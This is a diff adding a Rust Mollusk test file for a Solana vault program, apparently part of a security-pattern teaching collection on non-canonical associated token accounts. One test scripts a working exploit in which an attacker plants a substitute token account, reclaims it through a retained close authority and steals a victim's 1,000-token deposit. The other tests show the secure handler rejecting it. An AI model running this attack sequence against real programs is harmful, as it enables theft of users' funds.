@@ -0,0 +1,520 @@
+/// # Pattern 25: Non-Canonical ATA — Mollusk Exploit Tests
+///
+/// No vault exists yet for the mint. The victim holds 1,000 tokens and a
+/// position in the vault-to-be. The attacker holds an empty account for
+/// the mint and a keypair for a second address, the substitute. Both the
+/// substitute and the canonical ATA are owned by the vault PDA when the
+/// vault is created; only the ATA is at the derived address.
+///
+/// - Test 1: EXPLOIT — the attacker plants the substitute with
+///   themselves as close authority, creates the vault with it, closes it
+///   and recreates it as their own. The victim's deposit lands there.
+/// - Test 2: SECURE — create_vault_secure rejects the substitute.
+/// - Test 3: SANITY — a vault created with the ATA takes the victim's
+///   deposit and pays part of it back.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, Ledger,
+};
+use test_harness::token::{Mint, TokenAccount};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("26tMWXvjtn6jdfrGf53bVguHekVCNpkbGnaUuRNqehTa");
+const TOKEN_PROGRAM_ID: Pubkey = solana_sdk::pubkey!("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA");
+const ATA_PROGRAM_ID: Pubkey = solana_sdk::pubkey!("ATokenGPvbdGVxr1b2hvZbsiqW5xWH25efTNsLJA8knL");
+
+const RENT: u64 = 2_000_000;
+const TOKEN_RENT: u64 = 2_039_280;
+const TOKEN_ACCOUNT_LEN: u64 = 165;
+const WALLET: u64 = 10_000_000_000;
+
+/// The victim's deposit.
+const DEPOSIT: u64 = 1_000;
+
+// SPL Token authority types
+const ACCOUNT_OWNER: u8 = 2;
+const CLOSE_ACCOUNT: u8 = 3;
+
+// Error codes
+const CONSTRAINT_ASSOCIATED: u32 = 2009;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Vault account:
+///   [8 disc][32 mint][32 vault_token][1 bump]
+fn serialize_vault(mint: &Pubkey, vault_token: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(73);
+    data.extend_from_slice(&account_discriminator("Vault"));
+    data.extend_from_slice(mint.as_ref());
+    data.extend_from_slice(vault_token.as_ref());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Position account:
+///   [8 disc][32 vault][32 owner][8 amount][1 bump]
+fn serialize_position(vault: &Pubkey, owner: &Pubkey, amount: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(81);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(vault.as_ref());
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&amount.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize an SPL Token mint with no authorities and no decimals.
+fn serialize_mint(supply: u64) -> Vec<u8> {
+    Mint {
+        supply,
+        ..Mint::default()
+    }
+    .pack()
+}
+
+/// Serialize an SPL Token account, with `close_authority` if given.
+fn serialize_token_account(
+    mint: &Pubkey,
+    owner: &Pubkey,
+    amount: u64,
+    close_authority: Option<&Pubkey>,
+) -> Vec<u8> {
+    TokenAccount {
+        close_authority: close_authority.copied(),
+        ..TokenAccount::new(mint, owner, amount)
+    }
+    .pack()
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+fn new_mollusk() -> Mollusk {
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "non_canonical_ata");
+    mollusk.add_program(
+        &TOKEN_PROGRAM_ID,
+        "spl_token",
+        &solana_sdk::bpf_loader_upgradeable::id(),
+    );
+    mollusk
+}
+
+// ---------------------------------------------------------------------------
+// System and SPL Token instructions, encoded by hand
+// ---------------------------------------------------------------------------
+
+/// System CreateAccount of a token-account-sized account owned by SPL Token.
+fn create_token_account(payer: &Pubkey, account: &Pubkey) -> Instruction {
+    let mut data = 0u32.to_le_bytes().to_vec();
+    data.extend_from_slice(&TOKEN_RENT.to_le_bytes());
+    data.extend_from_slice(&TOKEN_ACCOUNT_LEN.to_le_bytes());
+    data.extend_from_slice(TOKEN_PROGRAM_ID.as_ref());
+    Instruction::new_with_bytes(
+        solana_sdk::system_program::ID,
+        &data,
+        vec![
+            AccountMeta::new(*payer, true),
+            AccountMeta::new(*account, true),
+        ],
+    )
+}
+
+fn initialize_account3(account: &Pubkey, mint: &Pubkey, owner: &Pubkey) -> Instruction {
+    let mut data = vec![18];
+    data.extend_from_slice(owner.as_ref());
+    Instruction::new_with_bytes(
+        TOKEN_PROGRAM_ID,
+        &data,
+        vec![
+            AccountMeta::new(*account, false),
+            AccountMeta::new_readonly(*mint, false),
+        ],
+    )
+}
+
+fn approve(account: &Pubkey, delegate: &Pubkey, owner: &Pubkey, amount: u64) -> Instruction {
+    let mut data = vec![4];
+    data.extend_from_slice(&amount.to_le_bytes());
+    Instruction::new_with_bytes(
+        TOKEN_PROGRAM_ID,
+        &data,
+        vec![
+            AccountMeta::new(*account, false),
+            AccountMeta::new_readonly(*delegate, false),
+            AccountMeta::new_readonly(*owner, true),
+        ],
+    )
+}
+
+fn set_authority(account: &Pubkey, kind: u8, new: &Pubkey, current: &Pubkey) -> Instruction {
+    let mut data = vec![6, kind, 1];
+    data.extend_from_slice(new.as_ref());
+    Instruction::new_with_bytes(
+        TOKEN_PROGRAM_ID,
+        &data,
+        vec![
+            AccountMeta::new(*account, false),
+            AccountMeta::new_readonly(*current, true),
+        ],
+    )
+}
+
+fn close_account(account: &Pubkey, destination: &Pubkey, authority: &Pubkey) -> Instruction {
+    Instruction::new_with_bytes(
+        TOKEN_PROGRAM_ID,
+        &[9],
+        vec![
+            AccountMeta::new(*account, false),
+            AccountMeta::new(*destination, false),
+            AccountMeta::new_readonly(*authority, true),
+        ],
+    )
+}
+
+fn transfer(from: &Pubkey, to: &Pubkey, authority: &Pubkey, amount: u64) -> Instruction {
+    let mut data = vec![3];
+    data.extend_from_slice(&amount.to_le_bytes());
+    Instruction::new_with_bytes(
+        TOKEN_PROGRAM_ID,
+        &data,
+        vec![
+            AccountMeta::new(*from, false),
+            AccountMeta::new(*to, false),
+            AccountMeta::new_readonly(*authority, true),
+        ],
+    )
+}
+
+// ---------------------------------------------------------------------------
+// Scenario
+// ---------------------------------------------------------------------------
+
+struct Setup {
+    mint: Pubkey,
+    vault: Pubkey,
+    vault_bump: u8,
+    /// The vault's canonical ATA, already created and empty.
+    ata: Pubkey,
+    /// The attacker's keypair address for their substitute account.
+    substitute: Pubkey,
+    attacker: Pubkey,
+    attacker_token: Pubkey,
+    /// A second wallet the attacker controls.
+    accomplice: Pubkey,
+    victim: Pubkey,
+    victim_token: Pubkey,
+    victim_position: Pubkey,
+    position_bump: u8,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let mint = Pubkey::new_unique();
+        let (vault, vault_bump) =
+            Pubkey::find_program_address(&[b"vault", mint.as_ref()], &PROGRAM_ID);
+        let (ata, _) = Pubkey::find_program_address(
+            &[vault.as_ref(), TOKEN_PROGRAM_ID.as_ref(), mint.as_ref()],
+            &ATA_PROGRAM_ID,
+        );
+        let substitute = Pubkey::new_unique();
+        let attacker = Pubkey::new_unique();
+        let attacker_token = Pubkey::new_unique();
+        let accomplice = Pubkey::new_unique();
+        let victim = Pubkey::new_unique();
+        let victim_token = Pubkey::new_unique();
+        let (victim_position, position_bump) = Pubkey::find_program_address(
+            &[b"position", vault.as_ref(), victim.as_ref()],
+            &PROGRAM_ID,
+        );
+
+        let ledger = vec![
+            (
+                mint,
+                owned_account(&serialize_mint(DEPOSIT), TOKEN_RENT, &TOKEN_PROGRAM_ID),
+            ),
+            (vault, AccountSharedData::default()),
+            (
+                ata,
+                owned_account(
+                    &serialize_token_account(&mint, &vault, 0, None),
+                    TOKEN_RENT,
+                    &TOKEN_PROGRAM_ID,
+                ),
+            ),
+            (substitute, AccountSharedData::default()),
+            (attacker, system_account()),
+            (
+                attacker_token,
+                owned_account(
+                    &serialize_token_account(&mint, &attacker, 0, None),
+                    TOKEN_RENT,
+                    &TOKEN_PROGRAM_ID,
+                ),
+            ),
+            (accomplice, system_account()),
+            (victim, system_account()),
+            (
+                victim_token,
+                owned_account(
+                    &serialize_token_account(&mint, &victim, DEPOSIT, None),
+                    TOKEN_RENT,
+                    &TOKEN_PROGRAM_ID,
+                ),
+            ),
+            (
+                victim_position,
+                owned_account(
+                    &serialize_position(&vault, &victim, 0, position_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+            (
+                TOKEN_PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+        ];
+
+        Self {
+            mint,
+            vault,
+            vault_bump,
+            ata,
+            substitute,
+            attacker,
+            attacker_token,
+            accomplice,
+            victim,
+            victim_token,
+            victim_position,
+            position_bump,
+            ledger: Ledger::new(ledger).collecting_garbage(),
+        }
+    }
+
+    fn create_vault(&self, name: &str, vault_token: Pubkey, payer: Pubkey) -> Instruction {
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &ix_discriminator(name),
+            vec![
+                AccountMeta::new(self.vault, false),
+                AccountMeta::new_readonly(self.mint, false),
+                AccountMeta::new_readonly(vault_token, false),
+                AccountMeta::new(payer, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    /// deposit / withdraw for the victim, through `vault_token`.
+    fn ix(&self, name: &str, vault_token: Pubkey, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.vault, false),
+                AccountMeta::new(vault_token, false),
+                AccountMeta::new(self.victim_token, false),
+                AccountMeta::new(self.victim_position, false),
+                AccountMeta::new_readonly(self.victim, true),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+            ],
+        )
+    }
+
+    fn vault_data(&self, vault_token: &Pubkey) -> Vec<u8> {
+        serialize_vault(&self.mint, vault_token, self.vault_bump)
+    }
+
+    fn position_data(&self, amount: u64) -> Vec<u8> {
+        serialize_position(&self.vault, &self.victim, amount, self.position_bump)
+    }
+
+    fn token_data(&self, owner: &Pubkey, amount: u64, close: Option<&Pubkey>) -> Vec<u8> {
+        serialize_token_account(&self.mint, owner, amount, close)
+    }
+
+    /// The attacker creates the substitute as their own account, approves
+    /// their accomplice as delegate, makes themselves close authority, and hands
+    /// ownership to the vault PDA. The delegate is cleared by the owner
+    /// change; the close authority stays.
+    fn plant_substitute(&mut self, mollusk: &Mollusk) {
+        let (substitute, attacker, vault) = (self.substitute, self.attacker, self.vault);
+        for ix in [
+            create_token_account(&attacker, &substitute),
+            initialize_account3(&substitute, &self.mint, &attacker),
+            approve(&substitute, &self.accomplice, &attacker, u64::MAX),
+            set_authority(&substitute, CLOSE_ACCOUNT, &attacker, &attacker),
+            set_authority(&substitute, ACCOUNT_OWNER, &vault, &attacker),
+        ] {
+            self.ledger.step(mollusk, &ix, &[Check::success()]);
+        }
+        let planted = self.token_data(&vault, 0, Some(&attacker));
+        assert_eq!(self.ledger.data(&substitute), planted.as_slice());
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_recreated_substitute_takes_deposit_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   1. Attacker plants the substitute: vault-owned, attacker as close
+    //      authority
+    //   2. Attacker: create_vault_vulnerable with the substitute
+    //   3. Attacker closes the empty substitute and recreates it at the
+    //      same address, owned by themselves
+    //   4. Victim: deposit(1,000)
+    //   5. Attacker transfers the 1,000 out
+    //
+    // Expected: all SUCCEED. The vault records the substitute, the deposit
+    //           lands in the attacker's account while the victim's position
+    //           reads 1,000, and the attacker ends with the victim's tokens.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (vault, substitute, attacker, attacker_token, victim_position) = (
+        s.vault,
+        s.substitute,
+        s.attacker,
+        s.attacker_token,
+        s.victim_position,
+    );
+
+    s.plant_substitute(&mollusk);
+
+    let ix = s.create_vault("create_vault_vulnerable", substitute, attacker);
+    let recorded = s.vault_data(&substitute);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault).data(&recorded).build(),
+        ],
+    );
+
+    let ix = close_account(&substitute, &s.accomplice, &attacker);
+    s.ledger.step(&mollusk, &ix, &[Check::success()]);
+    for ix in [
+        create_token_account(&attacker, &substitute),
+        initialize_account3(&substitute, &s.mint, &attacker),
+    ] {
+        s.ledger.step(&mollusk, &ix, &[Check::success()]);
+    }
+
+    let ix = s.ix("deposit", substitute, DEPOSIT);
+    let captured = s.token_data(&attacker, DEPOSIT, None);
+    let credited = s.position_data(DEPOSIT);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&substitute).data(&captured).build(),
+            Check::account(&victim_position).data(&credited).build(),
+        ],
+    );
+
+    let ix = transfer(&substitute, &attacker_token, &attacker, DEPOSIT);
+    let stolen = s.token_data(&attacker, DEPOSIT, None);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&attacker_token).data(&stolen).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_create_rejects_substitute() {
+    // -----------------------------------------------------------------------
+    // SECURE: The attacker plants the same substitute and calls
+    // create_vault_secure with it.
+    //
+    // Expected: FAILS with ConstraintAssociated (2009). The substitute is
+    //           vault-owned and holds the mint, but it isn't at the ATA
+    //           address, so no vault is created.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+
+    s.plant_substitute(&mollusk);
+
+    let ix = s.create_vault("create_vault_secure", s.substitute, s.attacker);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(CONSTRAINT_ASSOCIATED))],
+    );
+}
+
+#[test]
+fn sanity_ata_vault_round_trip_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: The victim creates the vault through create_vault_secure with
+    // its ATA, deposits 1,000, and withdraws 400.
+    //
+    // Expected: all SUCCEED. The ATA holds 1,000 after the deposit and 600
+    //           after the withdrawal; the victim ends with 400 tokens and a
+    //           600 position.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (vault, ata, victim, victim_token, victim_position) =
+        (s.vault, s.ata, s.victim, s.victim_token, s.victim_position);
+
+    let ix = s.create_vault("create_vault_secure", ata, victim);
+    let recorded = s.vault_data(&ata);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault).data(&recorded).build(),
+        ],
+    );
+
+    let ix = s.ix("deposit", ata, DEPOSIT);
+    let held = s.token_data(&vault, DEPOSIT, None);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::success(), Check::account(&ata).data(&held).build()],
+    );
+
+    let ix = s.ix("withdraw", ata, 400);
+    let held = s.token_data(&vault, 600, None);
+    let returned = s.token_data(&victim, 400, None);
+    let position = s.position_data(600);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&ata).data(&held).build(),
+            Check::account(&victim_token).data(&returned).build(),
+            Check::account(&victim_position).data(&position).build(),
+        ],
+    );
+}